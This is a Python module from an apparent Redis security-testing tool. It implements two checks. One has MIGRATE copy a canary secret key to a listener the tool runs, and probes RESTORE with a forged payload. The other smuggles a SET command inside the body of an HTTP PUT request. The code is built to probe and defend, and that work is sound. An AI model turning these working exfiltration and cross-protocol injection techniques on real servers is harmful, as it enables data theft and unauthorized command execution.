# Copyright: (c) 2026, The rampart.redis contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks 17 and 22: data carried off by the server itself, and commands smuggled in another protocol."""

from __future__ import annotations

import socket
import threading
from typing import TYPE_CHECKING

from .canary import SECRET_KEY, SECRET_VALUE
from .doors import PATIENCE, anonymous, attempt, everyone
from .model import CannotRunError, Outcome
from .resp import ReplyError, insist

if TYPE_CHECKING:
    from .model import Target
    from .resp import Connection

KEY = "app:attack:http"
_VALUE = "smuggled"
# POST, and any verb with a Host line, is cut off by every server; PUT is not.
_REQUEST = f"PUT / HTTP/1.0\r\n\r\nSET {KEY} {_VALUE}\r\n"


class Collector:
    """A listener that takes whatever a server brings, and says OK to it."""

    def __init__(self, address: str) -> None:
        self._server = socket.create_server((address, 0))
        self._server.settimeout(PATIENCE)
        self.address, self.port = self._server.getsockname()[:2]
        self.visitors = 0
        self.received = b""
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def stop(self) -> None:
        """Stop listening and wait for the thread."""
        self._server.shutdown(socket.SHUT_RDWR)  # closing alone does not wake who waits for a visitor
        self._thread.join(PATIENCE)
        self._server.close()

    def _serve(self) -> None:
        try:
            visitor, _peer = self._server.accept()
        except OSError:
            return  # nobody came
        self.visitors += 1
        with visitor:
            visitor.settimeout(1.0)
            try:
                while data := visitor.recv(65536):
                    self.received += data
                    visitor.sendall(b"+OK\r\n" * data.count(b"RESTORE") + b"+OK\r\n" * data.count(b"SELECT"))
            except OSError:
                return  # it went away


def carry_off(target: Target) -> Outcome:
    """MIGRATE a secret to a listener of ours, and have a payload of ours read by RESTORE."""
    return attempt(everyone(target), lambda connection: _migrate(connection, target), _restore)


def _migrate(connection: Connection, target: Target) -> str:
    collector = Collector(target.own_address)
    try:
        connection.ask("MIGRATE", collector.address, collector.port, SECRET_KEY, 0, 2000, "COPY")
    finally:
        collector.stop()
    if SECRET_VALUE.encode() not in collector.received:
        raise CannotRunError(f"{connection.door}: MIGRATE was accepted, but the secret did not arrive")
    return "MIGRATE brings the secret to our listener"


def _restore(connection: Connection) -> str:
    reply = connection.call("RESTORE", "app:attack:restored", 0, "no payload")
    if isinstance(reply, ReplyError) and "DUMP payload" in reply:
        return "RESTORE reads payloads of ours"
    insist(reply, connection.door, "RESTORE")
    raise CannotRunError(f"{connection.door}: RESTORE accepted a payload that is none")


def speak_http(target: Target) -> Outcome:
    """Have a web page's PUT carry a command in its body."""
    return attempt(anonymous(target), _put)


def _put(connection: Connection) -> str:
    connection.throw(_REQUEST.encode())
    connection.read()  # what it thinks of PUT
    insist(connection.read(), connection.door, "SET in the body of PUT")
    if connection.ask("GET", KEY) != _VALUE:
        raise CannotRunError(f"{connection.door}: the body was answered, but not carried out")
    connection.ask("DEL", KEY)
    return "a command in the body of an HTTP request runs"
